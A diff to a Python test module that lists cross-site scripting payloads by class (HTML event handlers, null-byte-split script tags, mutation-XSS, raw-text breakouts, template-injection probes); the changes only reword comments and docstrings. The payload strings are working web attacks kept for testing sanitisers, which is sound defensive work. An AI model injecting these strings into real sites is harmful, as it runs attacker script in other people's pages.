@@ -1,4 +1,4 @@
-r"""Ways to have a script run in somebody else's page, by class, written for these tests.
+r"""Ways to run a script in a page of another publisher, by class, written for these tests.
 
 ``JS`` stands for a call that shows the test's server who ran. It has no quotes, no blanks and no
 markup, so that it fits wherever a script does.
@@ -6,7 +6,7 @@ markup, so that it fits wherever a script does.
 
 from typing import NamedTuple
 
-# Asks for "/ran/" and a number, in a way that nothing but a script can put together.
+# Requests "/ran/" and a number. Only a running script can build this address.
 _CALL = "fetch(String.fromCharCode(47,114,97,110,47)"
 
 _HTML = (
@@ -120,7 +120,7 @@ _HTML = (
     "<img src=x \u2028onerror=JS><svg onload=JS>",
     "<script\x00>JS</script><scr\x00ipt>JS</scr\x00ipt><script>JS</script>",
 )
-# What a parser makes of these is not what it makes of them again.
+# A parser that reads these and writes them yields text that it reads in another way.
 _MUTATION = (
     "<noscript><p title='</noscript><img src=x onerror=JS>'>",
     "<svg></p><style><a id='</style><img src=x onerror=JS>'>",
@@ -239,7 +239,7 @@ _RAW_TEXT = (
     "</title></head><body><svg onload=JS>",
     "]]></title><script>JS</script>",
 )
-# No browser runs these; a template engine or a terminal might.
+# No browser runs these, but a template engine or a terminal might.
 _OTHER = (
     "{{ 7 * 7 }}{% for x in y %}",
     "${7*7}#{7*7}<%= 7*7 %>",
@@ -263,9 +263,9 @@ _CLASSES = {
 
 
 class Payload(NamedTuple):
-    """One attack: its number, its class, what is written, and where it would be alive.
+    """One attack: its number, its class, its text, and the page in which it would run.
 
-    The context of Markdown is whatever a reader of Markdown makes of it, and is empty here.
+    The context is empty for Markdown: its reader decides what it becomes.
     """
 
     number: int
